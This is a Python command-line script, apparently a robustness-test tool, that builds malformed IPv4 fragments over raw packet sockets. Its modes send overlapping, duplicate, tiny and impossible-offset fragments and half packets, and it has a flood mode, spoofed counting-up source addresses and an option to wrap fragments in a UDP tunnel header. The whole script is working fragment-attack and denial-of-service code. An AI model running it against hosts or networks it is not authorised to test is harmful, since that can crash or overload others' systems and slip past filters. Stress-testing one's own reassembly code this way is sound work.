#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""Fragments that no honest sender makes: of IP (a host on the LAN) or pieces of packets between routers (somebody on the WAN).

    fragment_attack.py KIND --dev DEV --mac MAC --from ADDRESS --to ADDRESS [--port N] [--count N] [--senders N] [--pieces]

KIND: overlap     fragments that overlap the one before
      copies      the same fragment, again and again with other bytes
      tiny        first fragments that end inside the UDP header
      lengths     offsets and lengths that cannot be
      half        the first halves of packets whose other halves never come
      flood       the same, as fast as possible
Prints the number of frames sent. Addresses are IPv4; with --senders their last byte counts up from that of --from.
"""
import argparse
import os
import random
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def address(text, plus=0):
    a = bytearray(socket.inet_aton(text))
    a[3] = (a[3] + plus) % 256
    return bytes(a)


class Sender:
    def __init__(self, args):
        self.args = args
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.sock.bind((args.dev, 0))
        self.eth = bytes.fromhex(args.mac.replace(":", "")) + b"\x02\0\0\0\0\x66\x08\0"
        self.sent = 0

    def ip(self, payload, ident, frag, plus=0):
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, frag, 64, 17, 0,
                           address(getattr(self.args, "from"), plus), address(self.args.to))
        return head[:10] + struct.pack("!H", csum(head)) + head[12:] + payload

    def fragment(self, ident, offset, more, body, plus=0):
        """@offset in bytes; the first bytes of a packet are a UDP header."""
        if offset == 0:
            body = struct.pack("!HHHH", 40000, self.args.port, 8 + 4000, 0) + body[8:]
        if self.args.pieces:
            return self.piece(ident, offset, more, body, plus)
        self.send(self.ip(body, ident, (0x2000 if more else 0) | (offset // 8 & 0x1fff), plus))

    def piece(self, ident, offset, more, body, plus):
        block = bytes.fromhex("4c48dbc6ddf6670c") + struct.pack("!HHHHIHHH", 0x101a, 0, 1, 10, ident | 0x66000000, 0,
                                                                (0x2000 if more else 0) | (offset // 8 & 0x1fff), 0)
        udp = struct.pack("!HHHH", 20001, self.args.port, 8 + len(block) + len(body), 0) + block + body
        pseudo = address(getattr(self.args, "from"), plus) + address(self.args.to) + struct.pack("!BBH", 0, 17, len(udp))
        udp = udp[:6] + struct.pack("!H", csum(pseudo + udp) or 0xffff) + udp[8:]
        self.send(self.ip(udp, 0, 0x4000, plus))

    def send(self, packet):
        self.sock.send(self.eth + packet)
        self.sent += 1
        if self.args.kind != "flood" and self.sent % 32 == 0:
            time.sleep(0.002)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("kind", choices=("overlap", "copies", "tiny", "lengths", "half", "flood"))
    ap.add_argument("--dev", required=True)
    ap.add_argument("--mac", required=True)
    ap.add_argument("--from", required=True)
    ap.add_argument("--to", required=True)
    ap.add_argument("--port", type=int, default=8100)
    ap.add_argument("--count", type=int, default=100)
    ap.add_argument("--senders", type=int, default=1)
    ap.add_argument("--pieces", action="store_true")
    args = ap.parse_args()
    s = Sender(args)
    start = random.randrange(1 << 16)
    for n in range(args.count):
        ident = (start + n) % (1 << 16)
        plus = n % args.senders
        if args.kind == "overlap":
            s.fragment(ident, 0, True, os.urandom(800), plus)
            s.fragment(ident, 792, True, os.urandom(800), plus)
            s.fragment(ident, 1592, False, os.urandom(80), plus)
        elif args.kind == "copies":
            s.fragment(ident, 800, True, os.urandom(800), plus)
            s.fragment(ident, 800, True, os.urandom(800), plus)
        elif args.kind == "tiny":
            s.send(s.ip(b"\0\1\2\3", ident, 0x2000, plus))
        elif args.kind == "lengths":
            s.fragment(ident, 65528, False, os.urandom(800), plus)
            s.fragment(ident, 800, True, os.urandom(801), plus)
        else:
            s.fragment(ident, 0, True, os.urandom(1400), plus)
    print(s.sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
